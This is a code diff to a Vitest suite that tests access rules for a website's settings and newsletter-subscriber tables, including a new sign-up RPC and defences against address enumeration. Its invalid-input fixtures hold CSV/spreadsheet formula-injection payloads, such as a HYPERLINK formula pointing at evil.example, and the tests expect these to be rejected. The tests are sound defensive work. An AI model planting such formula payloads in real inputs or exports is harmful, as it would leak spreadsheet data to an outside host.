@@ -1,17 +1,20 @@
 // design.md's matrix rows for site_settings (one row: everyone reads, admins update, nobody inserts
-// or deletes) and newsletter_subscribers (everyone subscribes through one narrow insert, nobody but
+// or deletes) and newsletter_subscribers (everyone subscribes through one narrow RPC, nobody but
 // admins reads), as anon, a signed-in visitor, an admin and the service role, with hostile input.
 import { describe, expect, test } from "vitest";
 import { shippedSiteSettings } from "../../src/content/site-settings";
 import type { Queryable } from "../local/db/database";
 import { admin, anon, serviceRole, visitor } from "./support/actors";
 import {
+  applyFiles,
   attempt,
   backends,
   expectNoRowAffected,
   expectOwnerRefused,
   expectRefused,
   inRolledBackTransaction,
+  openEmptyDatabase,
+  splitAtMigration,
   succeeded,
   useSeededDatabase,
 } from "./support/database";
@@ -29,9 +32,16 @@ async function subscriberEmails(tx: Queryable): Promise<string[]> {
   return rows.map((row) => row.email);
 }
 
+/** A sign-up as the footer sends it: the one RPC, one address. */
 const subscribe = (email: string, sourcePath = "/resources"): [string, unknown[]] => [
-  "insert into public.newsletter_subscribers (email, source_path) values ($1, $2)",
+  "select public.subscribe_to_newsletter($1, $2)",
   [email, sourcePath],
+];
+
+/** The old path, a direct insert: what PostgREST's row count turned into an oracle. */
+const insertDirectly = (email: string): [string, unknown[]] => [
+  "insert into public.newsletter_subscribers (email, source_path) values ($1, '/')",
+  [email],
 ];
 
 describe.each(backends)("%s", (backend) => {
@@ -213,10 +223,9 @@ describe.each(backends)("%s", (backend) => {
   describe("newsletter_subscribers", () => {
     for (const actor of [anon, visitor, admin]) {
       test(
-        `${actor.label} › subscribe: stored with the page and the database's consent time`,
+        `${actor.label} › subscribe: stored trimmed, with the page and the database's consent time`,
         rolledBack(async (tx) => {
-          const outcome = await attempt(tx, actor, ...subscribe("  Reader@Example.com "));
-          expect(outcome.ok && outcome.affectedRows).toBe(1);
+          succeeded(await attempt(tx, actor, ...subscribe("  Reader@Example.com ")));
           const { rows } = await tx.query<{ email: string; source_path: string; now: boolean }>(
             "select email, source_path, consented_at = now() as now from public.newsletter_subscribers",
           );
@@ -225,49 +234,46 @@ describe.each(backends)("%s", (backend) => {
           ]);
         }),
       );
+
+      test(
+        `${actor.label} › insert into the table directly: refused (no privilege), nothing stored`,
+        rolledBack(async (tx) => {
+          expectRefused(await attempt(tx, actor, ...insertDirectly("reader@example.com")));
+          expectRefused(
+            await attempt(
+              tx,
+              actor,
+              "insert into public.newsletter_subscribers (email, source_path, consented_at) values ('a@example.com', '/', '2020-01-01')",
+            ),
+          );
+          expect(await subscriberEmails(tx)).toEqual([]);
+        }),
+      );
     }
 
     test(
-      "anon › subscribing twice, in any case, succeeds both times and stores one row",
+      "anon › a new, a known and a differently cased address get the same answer; one row is stored",
       rolledBack(async (tx) => {
-        succeeded(await attempt(tx, anon, ...subscribe("reader@example.com")));
-        const again = await attempt(tx, anon, ...subscribe("READER@example.com", "/"));
-        expect(again.ok && again.affectedRows).toBe(0);
+        const answers = [];
+        for (const email of ["reader@example.com", "reader@example.com", "READER@example.com"]) {
+          const outcome = await attempt(tx, anon, ...subscribe(email, "/"));
+          answers.push(outcome.ok && { rows: outcome.rows, affectedRows: outcome.affectedRows });
+        }
+        expect(answers[0]).toBeTruthy();
+        expect(answers).toEqual([answers[0], answers[0], answers[0]]);
         expect(await subscriberEmails(tx)).toEqual(["reader@example.com"]);
       }),
     );
 
     test(
-      "anon › cannot name the consent time or the id",
+      "anon › the sign-up takes no advisory lock, whatever the address",
       rolledBack(async (tx) => {
-        expectRefused(
-          await attempt(
-            tx,
-            anon,
-            "insert into public.newsletter_subscribers (email, source_path, consented_at) values ('a@example.com', '/', '2020-01-01')",
-          ),
+        succeeded(await attempt(tx, anon, ...subscribe("reader@example.com")));
+        succeeded(await attempt(tx, anon, ...subscribe("reader@example.com")));
+        const { rows } = await tx.query<{ n: number }>(
+          "select count(*)::int as n from pg_locks where locktype = 'advisory' and pid = pg_backend_pid()",
         );
-        expectRefused(
-          await attempt(
-            tx,
-            anon,
-            "insert into public.newsletter_subscribers (id, email, source_path) values (gen_random_uuid(), 'a@example.com', '/')",
-          ),
-        );
-        expect(await subscriberEmails(tx)).toEqual([]);
-      }),
-    );
-
-    test(
-      "anon › cannot read back what it inserted (returning needs select)",
-      rolledBack(async (tx) => {
-        expectRefused(
-          await attempt(
-            tx,
-            anon,
-            "insert into public.newsletter_subscribers (email, source_path) values ('a@example.com', '/') returning email",
-          ),
-        );
+        expect(rows).toEqual([{ n: 0 }]);
       }),
     );
 
@@ -278,6 +284,12 @@ describe.each(backends)("%s", (backend) => {
       ["an oversized address", `${"a".repeat(250)}@example.com`, "/"],
       ["a source that is not a path", "reader@example.com", "https://evil.example/"],
       ["an oversized source path", "reader@example.com", `/${"a".repeat(200)}`],
+      ...["=", "+", "-", "@", "\t", "\r"].map((start): [string, string, string] => [
+        `an address a spreadsheet would run (${JSON.stringify(start)}...)`,
+        `${start}HYPERLINK("https://evil.example/?"&A3,"x@y.z")`,
+        "/",
+      ]),
+      ["a formula that passes the address pattern", "=1+1@example.com", "/"],
     ];
     for (const [what, email, sourcePath] of invalid) {
       test(
@@ -288,6 +300,28 @@ describe.each(backends)("%s", (backend) => {
         }),
       );
     }
+
+    test("a project whose list already holds a formula-like address still migrates; the rule holds for every new row", async () => {
+      const handle = await openEmptyDatabase(backend);
+      try {
+        const { before, migration, after } = await splitAtMigration(
+          "_subscriber_email_not_a_formula.sql",
+        );
+        await applyFiles(handle.db, before);
+        await handle.db.exec(
+          "insert into public.newsletter_subscribers (email, source_path) values ('=1+1@example.com', '/')",
+        );
+        await applyFiles(handle.db, [migration, ...after]);
+        expect(await subscriberEmails(handle.db)).toEqual(["=1+1@example.com"]);
+        await expect(
+          handle.db.query(
+            "insert into public.newsletter_subscribers (email, source_path) values ('+1@example.com', '/')",
+          ),
+        ).rejects.toMatchObject({ code: "23514" });
+      } finally {
+        await handle.dispose();
+      }
+    });
 
     describe("with two subscribers", () => {
       const withSubscribers = (fn: (tx: Queryable) => Promise<void>) =>
